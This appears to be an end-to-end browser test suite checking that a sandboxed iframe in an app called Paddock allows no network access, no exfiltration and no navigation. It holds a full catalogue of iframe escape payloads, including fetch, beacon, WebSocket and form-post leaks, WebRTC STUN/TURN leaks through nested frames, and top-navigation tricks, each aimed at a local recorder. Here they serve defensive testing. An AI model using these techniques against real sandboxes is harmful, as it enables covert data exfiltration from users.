import dgram from 'node:dgram';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Frame, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ARTIFACT_CSP, artifactDocument } from '../../src/main/core/artifact-frame.js';
import { ARTIFACT_SANDBOX, FRAME_READY, FRAME_RENDER } from '../../src/shared/artifact-policy.js';
import { launchChromium } from '../helpers/browser.js';
import { startServe, connectApi, type Served } from '../helpers/serve.js';
import { tempDir } from '../helpers/temp-dir.js';

/** A loopback TCP listener that records every connection made to it, with what was sent. */
async function tcpRecorder() {
  const hits: string[] = [];
  const server = net.createServer((s) => {
    hits.push('connection');
    s.on('data', (d: Buffer) => hits.push(d.toString('latin1').split('\r\n')[0]!));
    s.on('error', () => undefined);
    // Answer like a web server would, so a request that got here would also "succeed".
    s.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    hits,
    port: (server.address() as net.AddressInfo).port,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

/** A loopback UDP socket (where a STUN or TURN server would be) that records every datagram. */
async function udpRecorder() {
  const hits: string[] = [];
  const socket = dgram.createSocket('udp4');
  socket.on('message', (m, from) => hits.push(`${from.address}:${from.port} ${m.length} bytes`));
  await new Promise<void>((r) => socket.bind(0, '127.0.0.1', r));
  return {
    hits,
    port: socket.address().port,
    close: () => new Promise<void>((r) => socket.close(() => r())),
  };
}

/**
 * In the page: mounts an artifact frame the way ArtifactFrame does (sandbox, referrer policy, the
 * real frame origin), answers its ready message with the artifact, and keeps whatever else the
 * frame posts in window.__probes.
 */
function mount(
  page: Page,
  id: string,
  origin: string,
  artifact: { kind: string; title: string; content: string },
) {
  return page.evaluate(
    ({ id, origin, artifact, sandbox, ready, render }) => {
      const w = window as unknown as { __probes?: Record<string, unknown> };
      w.__probes ??= {};
      const f = document.createElement('iframe');
      f.id = id;
      f.setAttribute('sandbox', sandbox);
      f.referrerPolicy = 'no-referrer';
      f.setAttribute('credentialless', '');
      f.style.width = '600px';
      f.style.height = '400px';
      f.src = `${origin}/frame.html`;
      window.addEventListener('message', (e) => {
        if (e.source !== f.contentWindow) return;
        const data = e.data as { type?: string };
        if (data?.type === ready) {
          f.contentWindow!.postMessage({ type: render, ...artifact }, '*');
        } else {
          w.__probes![id] = data;
        }
      });
      document.body.appendChild(f);
    },
    {
      id,
      origin,
      artifact,
      sandbox: ARTIFACT_SANDBOX,
      ready: FRAME_READY,
      render: FRAME_RENDER,
    },
  );
}

/** The frame with this id, once it has loaded. */
async function frameOf(page: Page, id: string): Promise<Frame> {
  const handle = await page.waitForSelector(`#${id}`, { state: 'attached' });
  for (let i = 0; i < 100; i++) {
    const frame = await handle.contentFrame();
    if (frame) return frame;
    await page.waitForTimeout(50);
  }
  throw new Error(`no frame for #${id}`);
}

/** What each way out tried from inside the artifact reported. */
type ProbeResults = Record<string, string>;

/**
 * An html artifact that tries every way out it can from inside the frame, and posts what happened
 * to each to its parent. R: the TCP recorder, U: the UDP recorder, A: the app's own port.
 */
function escapeArtifact(R: number, U: number, A: number): string {
  const rec = `http://127.0.0.1:${R}`;
  return `<!doctype html>
<html><head>
<link rel="prefetch" href="${rec}/prefetch">
<link rel="preload" as="image" href="${rec}/preload">
<link rel="preconnect" href="${rec}">
<link rel="dns-prefetch" href="//dns-leak.paddock.invalid">
<link rel="stylesheet" href="${rec}/link.css">
<link rel="icon" href="${rec}/favicon.ico">
<style>
@import url("${rec}/import.css");
body { background: url("${rec}/background.png"); }
@font-face { font-family: leak; src: url("${rec}/font.woff2"); }
p { font-family: leak; }
</style>
<script src="${rec}/script.js"></script>
</head><body>
<p>probe</p>
<img src="${rec}/img.png">
<img srcset="${rec}/srcset.png 2x">
<video src="${rec}/video.mp4" autoplay muted></video>
<audio src="${rec}/audio.mp3" autoplay></audio>
<object data="${rec}/object"></object>
<embed src="${rec}/embed">
<svg><image href="${rec}/svg-image.png" width="10" height="10"></image></svg>
<iframe id="parsed"></iframe>
<script>
  // A frame the parser made, reached by index (no getter runs) before any sweep.
  window.__parsedRtc = window[window.length - 1] && window[window.length - 1].RTCPeerConnection;
</script>
<iframe srcdoc="<script>parent.__srcdocRtc = typeof RTCPeerConnection === 'function' ? RTCPeerConnection : null;</script>"></iframe>
<script>
(async function () {
  var R = '${rec}', results = {};
  function wait(ms) { return new Promise(function (r) { setTimeout(r, ms); }); }
  async function attempt(name, fn) {
    try { results[name] = String(await Promise.race([fn(), wait(3000).then(function () { return 'timeout'; })])); }
    catch (e) { results[name] = 'blocked: ' + (e && (e.name || e.message)); }
  }
  async function stun(P) {
    var pc = new P({ iceServers: [
      { urls: 'stun:127.0.0.1:${U}' },
      { urls: 'turn:127.0.0.1:${U}?transport=udp', username: 'leak', credential: 'leak' },
      { urls: 'turn:127.0.0.1:${R}?transport=tcp', username: 'leak', credential: 'leak' },
    ] });
    pc.createDataChannel('leak');
    await pc.setLocalDescription(await pc.createOffer());
    await wait(2500);
    return 'ran, gathering ' + pc.iceGatheringState;
  }
  await attempt('fetch', function () { return fetch(R + '/fetch', { mode: 'no-cors' }).then(function (r) { return r.type; }); });
  await attempt('fetch-app', function () { return fetch('http://127.0.0.1:${A}/').then(function (r) { return r.status; }); });
  await attempt('xhr', function () { return new Promise(function (res, rej) {
    var x = new XMLHttpRequest(); x.open('GET', R + '/xhr');
    x.onload = function () { res(x.status); }; x.onerror = function () { rej(new Error('xhr error')); }; x.send();
  }); });
  await attempt('websocket-app', function () { return new Promise(function (res, rej) {
    var w = new WebSocket('ws://127.0.0.1:${A}/api', ['paddock.v1']);
    w.onopen = function () { res('open'); }; w.onerror = function () { rej(new Error('websocket error')); };
  }); });
  await attempt('websocket-recorder', function () { return new Promise(function (res, rej) {
    var w = new WebSocket('ws://127.0.0.1:${R}/ws');
    w.onopen = function () { res('open'); }; w.onerror = function () { rej(new Error('websocket error')); };
  }); });
  await attempt('eventsource', function () { return new Promise(function (res, rej) {
    var s = new EventSource(R + '/events'); s.onopen = function () { res('open'); };
    s.onerror = function () { s.close(); rej(new Error('eventsource error')); };
  }); });
  await attempt('sendBeacon', function () { return navigator.sendBeacon(R + '/beacon', 'leak'); });
  await attempt('window.open', function () { return window.open(R + '/popup'); });
  await attempt('dynamic-img', function () { return new Promise(function (res, rej) {
    var i = new Image(); i.onload = function () { res('loaded'); }; i.onerror = function () { rej(new Error('img error')); };
    i.src = R + '/dynamic.png';
  }); });
  await attempt('worker', function () { return new Promise(function (res, rej) {
    var w = new Worker(URL.createObjectURL(new Blob(['fetch("' + R + '/worker")'], { type: 'text/javascript' })));
    w.onerror = function () { rej(new Error('worker error')); }; setTimeout(function () { res('started'); }, 1000);
  }); });
  await attempt('RTCPeerConnection', function () { return typeof RTCPeerConnection; });
  await attempt('webkitRTCPeerConnection', function () { return typeof webkitRTCPeerConnection; });
  await attempt('RTCPeerConnection-redefine', function () {
    Object.defineProperty(window, 'RTCPeerConnection', { value: function () {} });
    return typeof RTCPeerConnection;
  });
  await attempt('rtc-from-nested-frame', function () {
    var i = document.createElement('iframe'); document.body.appendChild(i);
    var P = i.contentWindow && i.contentWindow.RTCPeerConnection;
    return P ? stun(P) : 'no RTCPeerConnection in a nested frame';
  });
  await attempt('rtc-from-srcdoc-frame', function () { return new Promise(function (res) {
    var i = document.createElement('iframe'); i.srcdoc = '<p>x</p>';
    i.onload = function () {
      var P = i.contentWindow && i.contentWindow.RTCPeerConnection;
      res(P ? stun(P) : 'no RTCPeerConnection in a srcdoc frame');
    };
    document.body.appendChild(i);
    setTimeout(function () { res('srcdoc frame never loaded'); }, 2000);
  }); });
  await attempt('rtc-from-parsed-frame', function () {
    return window.__parsedRtc ? stun(window.__parsedRtc) : 'no RTCPeerConnection in a parsed frame';
  });
  await wait(500);
  await attempt('rtc-from-srcdoc-script', function () {
    return window.__srcdocRtc ? stun(window.__srcdocRtc) : 'no RTCPeerConnection in a srcdoc script';
  });
  parent.postMessage({ type: 'probe', results: results }, '*');
})();
</script>
</body></html>`;
}

/** Artifacts that each try to navigate away: the top page, or the frame itself. */
function navigatingArtifacts(R: number): Record<string, string> {
  const rec = `http://127.0.0.1:${R}`;
  return {
    top: `<script>try { top.location = '${rec}/top'; } catch (e) {} try { top.location.href = '${rec}/top2'; } catch (e) {}</script>`,
    self: `<script>location.href = '${rec}/self';</script>`,
    nestedFrame: `<iframe src="${rec}/iframe"></iframe>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${rec}/refresh"><p>refresh</p>`,
    form: `<form method="post" action="${rec}/form"><input name="secret" value="leak"></form><script>document.forms[0].submit();</script>`,
    formTop: `<form method="post" action="${rec}/form-top" target="_top"><input name="secret" value="leak"></form><script>document.forms[0].submit();</script>`,
    link: `<a id="a" href="${rec}/link" target="_top" ping="${rec}/ping">x</a><a id="b" href="${rec}/blank" target="_blank">y</a><script>document.getElementById('a').click(); document.getElementById('b').click();</script>`,
  };
}

describe('the artifact frame in Chromium: no network, no way out', () => {
  let home: { dir: string; cleanup(): void };
  let served: Served;
  let browser: Browser;
  let page: Page;
  let tcp: Awaited<ReturnType<typeof tcpRecorder>>;
  let udp: Awaited<ReturnType<typeof udpRecorder>>;
  let artifactOrigin: string;
  let appPort: number;
  const requests: Request[] = [];
  const sockets: string[] = [];
  const popups: string[] = [];

  beforeAll(async () => {
    home = tempDir('paddock-e2e-artifact-');
    tcp = await tcpRecorder();
    udp = await udpRecorder();
    served = await startServe({ PADDOCK_HOME: home.dir });
    appPort = Number(new URL(served.url).port);
    const api = await connectApi(served.url);
    artifactOrigin = (await api.call<{ artifactOrigin: string }>('app:info')).artifactOrigin;
    api.close();
    browser = await launchChromium();
    const context = await browser.newContext();
    context.on('page', (p) => popups.push(p.url()));
    page = await context.newPage();
    page.on('request', (r) => requests.push(r));
    page.on('websocket', (ws) => sockets.push(ws.url()));
    await page.goto(served.url);
    await page.getByRole('heading', { name: 'Welcome to Paddock' }).waitFor();
    popups.length = 0; // the page itself
  });
  afterAll(async () => {
    await browser?.close();
    await served?.stop();
    await tcp?.close();
    await udp?.close();
    home?.cleanup();
  });

  it('is served from its own loopback origin, which the page may frame', () => {
    expect(artifactOrigin).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    expect(artifactOrigin).not.toBe(`http://127.0.0.1:${appPort}`);
  });

  it('renders each kind in the served shell, its libraries loaded from the frame origin', async () => {
    const kinds = {
      md: {
        kind: 'markdown',
        title: 'Notes',
        content:
          '# Heading\n\nEnergy: $E = mc^2$\n\n```js\nconst a = 1;\n```\n\n```mermaid\ngraph TD; A-->B\n```\n',
      },
      mm: { kind: 'mermaid', title: 'Flow', content: 'graph LR; Start-->Stop' },
      rx: {
        kind: 'react',
        title: 'Counter',
        content: `import { useState } from 'react';
import Papa from 'papaparse';
import { Chart } from 'chart.js';
export default function App() {
  const [n] = useState(Papa.parse('a,b').data[0].length);
  return <p id="out">{n} columns, chart {typeof Chart}</p>;
}`,
      },
      cd: { kind: 'code', title: 'main.py', content: 'def f(x):\n    return x + 1\n' },
      sv: {
        kind: 'svg',
        title: 'Dot',
        content:
          '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle cx="10" cy="10" r="8"/></svg>',
      },
    };
    for (const [id, a] of Object.entries(kinds)) await mount(page, id, artifactOrigin, a);
    const md = await frameOf(page, 'md');
    await md.locator('h1', { hasText: 'Heading' }).waitFor();
    await md.locator('.katex').first().waitFor();
    await md.locator('code.hljs .hljs-keyword').first().waitFor();
    await md.locator('pre.mermaid svg').waitFor();
    await (await frameOf(page, 'mm')).locator('pre.mermaid svg').waitFor();
    await expect((await frameOf(page, 'rx')).locator('#out').textContent()).resolves.toBe(
      '2 columns, chart function',
    );
    await (await frameOf(page, 'cd')).locator('code.hljs .hljs-keyword').first().waitFor();
    const img = (await frameOf(page, 'sv')).locator('img');
    await expect
      .poll(() => img.evaluate((i: HTMLImageElement) => i.naturalWidth), { timeout: 10_000 })
      .toBe(20);
    for (const id of Object.keys(kinds)) {
      await expect((await frameOf(page, id)).locator('.artifact-error').count(), id).resolves.toBe(
        0,
      );
    }
    // Frames asked their own origin for the shell and libraries, and nothing else.
    const fromFrames = requests.filter((r) => r.frame() !== page.mainFrame());
    for (const r of fromFrames) {
      expect(r.url(), r.url()).toMatch(new RegExp(`^${artifactOrigin}/(frame\\.html|lib/)`));
    }
    await page.evaluate(() => document.querySelectorAll('iframe').forEach((f) => f.remove()));
  }, 60_000);

  it('lets no request, datagram or socket out of an artifact: TCP, UDP (WebRTC), the app socket', async () => {
    const pageUrl = page.url();
    const socketsBefore = [...sockets];
    requests.length = 0;
    tcp.hits.length = 0;
    udp.hits.length = 0;
    await mount(page, 'probe', artifactOrigin, {
      kind: 'html',
      title: 'Probe',
      content: escapeArtifact(tcp.port, udp.port, appPort),
    });
    const results = (await page
      .waitForFunction(
        () => (window as unknown as { __probes?: { probe?: unknown } }).__probes?.probe,
        undefined,
        { timeout: 45_000 },
      )
      .then((h) => h.jsonValue())) as { results: ProbeResults };
    // Stragglers (a late beacon, a retried STUN request) would arrive in this time.
    await page.waitForTimeout(3_000);
    console.log('[artifact-frame e2e] what each attempt saw:', results.results);

    expect(tcp.hits, 'the TCP recorder heard from the frame').toEqual([]);
    expect(udp.hits, 'the UDP recorder heard from the frame').toEqual([]);
    expect(page.url()).toBe(pageUrl);
    await page.getByRole('heading', { name: 'Welcome to Paddock' }).waitFor({ timeout: 1_000 });
    expect(popups).toEqual([]);
    expect(sockets, 'a WebSocket was opened from the frame').toEqual(socketsBefore);
    // Chromium reports a load it refused (CSP) as a request that failed; none may have succeeded.
    const fromFrames = requests.filter((q) => q.frame() !== page.mainFrame());
    const out = fromFrames.filter((q) => !q.url().startsWith(`${artifactOrigin}/`));
    expect(out.length).toBeGreaterThan(10);
    expect(out.filter((q) => q.failure() === null).map((q) => q.url())).toEqual([]);
    const r = results.results;
    expect(r.RTCPeerConnection).toBe('undefined');
    expect(r.webkitRTCPeerConnection).toBe('undefined');
    expect(r['RTCPeerConnection-redefine']).toMatch(/^blocked: TypeError/);
    for (const k of [
      'fetch',
      'fetch-app',
      'xhr',
      'websocket-app',
      'websocket-recorder',
      'eventsource',
      'dynamic-img',
      'worker',
    ]) {
      expect(r[k], k).toMatch(/^blocked/);
    }
    expect(r['window.open']).toBe('null');
    for (const k of [
      'rtc-from-nested-frame',
      'rtc-from-srcdoc-frame',
      'rtc-from-parsed-frame',
      'rtc-from-srcdoc-script',
    ]) {
      expect(r[k], k).not.toMatch(/^ran/);
    }
  }, 90_000);

  it('lets no artifact navigate the page, itself or a popup anywhere', async () => {
    const pageUrl = page.url();
    const socketsBefore = [...sockets];
    tcp.hits.length = 0;
    udp.hits.length = 0;
    for (const [id, content] of Object.entries(navigatingArtifacts(tcp.port))) {
      await mount(page, `nav-${id}`, artifactOrigin, { kind: 'html', title: id, content });
    }
    await page.waitForTimeout(4_000);
    expect(page.url()).toBe(pageUrl);
    await page.getByRole('heading', { name: 'Welcome to Paddock' }).waitFor({ timeout: 1_000 });
    expect(popups).toEqual([]);
    expect(sockets).toEqual(socketsBefore);
    // Nothing reached the recorder, not even a bare connection: top navigation, popups and forms
    // are refused by the sandbox; the frame navigating itself (location, meta refresh) or a frame
    // in it by the frame's Connection-Allowlist before Chromium's preconnect opens a socket (the
    // control below shows CSP alone lets that connection through).
    expect(tcp.hits).toEqual([]);
    expect(udp.hits).toEqual([]);
  }, 30_000);

  it('renders an exported (inline) document offline, asking nothing of the network', async () => {
    const dir = tempDir('paddock-e2e-export-');
    try {
      const file = path.join(dir.dir, 'notes.html');
      fs.writeFileSync(
        file,
        artifactDocument(
          {
            kind: 'markdown',
            title: 'Notes',
            content:
              '# Exported\n\n$a^2$\n\n```py\nprint(1)\n```\n\n```mermaid\ngraph TD; A-->B\n```',
          },
          { inline: true },
        ),
      );
      const p = await browser.newPage();
      const asked: string[] = [];
      p.on('request', (r) => asked.push(r.url()));
      await p.goto(pathToFileURL(file).href);
      await p.locator('h1', { hasText: 'Exported' }).waitFor();
      await p.locator('.katex').first().waitFor();
      await p.locator('pre.mermaid svg').waitFor();
      expect(asked.filter((u) => !u.startsWith('file:') && !u.startsWith('data:'))).toEqual([]);
      await p.close();
    } finally {
      dir.cleanup();
    }
  }, 60_000);

  it('control: under ARTIFACT_CSP alone, a frame navigating itself opens a connection (why the allowlist exists)', async () => {
    // The same sandboxed frame, served with the frame's CSP but without its Connection-Allowlist,
    // navigating itself to a recorder: what arrives here is what the allowlist stops.
    const control = await tcpRecorder();
    const frame = http.createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html', 'Content-Security-Policy': ARTIFACT_CSP });
      res.end(`<script>location.href = 'http://127.0.0.1:${control.port}/self';</script>`);
    });
    await new Promise<void>((r) => frame.listen(0, '127.0.0.1', r));
    const framePort = (frame.address() as net.AddressInfo).port;
    const app = http.createServer((_req, res) => {
      res.writeHead(200, {
        'Content-Type': 'text/html',
        'Content-Security-Policy': `default-src 'none'; frame-src http://127.0.0.1:${framePort}`,
      });
      res.end(
        `<iframe sandbox="${ARTIFACT_SANDBOX}" src="http://127.0.0.1:${framePort}/"></iframe>`,
      );
    });
    await new Promise<void>((r) => app.listen(0, '127.0.0.1', r));
    const p = await browser.newPage();
    try {
      await p.goto(`http://127.0.0.1:${(app.address() as net.AddressInfo).port}/`);
      await p.waitForTimeout(2_500);
      console.log(
        `[artifact-frame e2e] control: connections from a refused self-navigation without the allowlist: ${control.hits.length}`,
      );
      // Recorded, not required: it documents Chromium's behaviour on this machine. No request
      // line is ever sent (frame-src refuses the navigation itself).
      expect(control.hits.filter((h) => h !== 'connection')).toEqual([]);
    } finally {
      await p.close();
      app.close();
      frame.close();
      await control.close();
    }
  }, 30_000);

  it('control: under ARTIFACT_CSP alone, what Chromium does with WebRTC (why the guard exists)', async () => {
    // A page with the frame's CSP but not its guard, on a recorder's own listener: whatever
    // reaches the UDP socket here is what the guard (and Electron's IP handling policy) stops.
    const control = await udpRecorder();
    const server = http.createServer((_req, res) => {
      res.writeHead(200, {
        'Content-Type': 'text/html',
        'Content-Security-Policy': `${ARTIFACT_CSP}; sandbox allow-scripts`,
      });
      res.end(`<!doctype html><script>
        (async function () {
          var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${control.port}' }] });
          pc.createDataChannel('x');
          await pc.setLocalDescription(await pc.createOffer());
          document.title = 'offered';
        })().catch(function (e) { document.title = 'failed: ' + e.message; });
      </script>`);
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const p = await browser.newPage();
    try {
      await p.goto(`http://127.0.0.1:${(server.address() as net.AddressInfo).port}/`);
      await p.waitForFunction(() => document.title !== '', undefined, { timeout: 10_000 });
      await p.waitForTimeout(3_000);
      console.log(
        `[artifact-frame e2e] control: ${await p.title()}; STUN datagrams received without the guard: ${control.hits.length}`,
      );
      // Recorded, not required: it documents Chromium's behaviour on this machine.
      expect(await p.title()).toMatch(/offered|failed/);
    } finally {
      await p.close();
      server.close();
      await control.close();
    }
  }, 30_000);
});
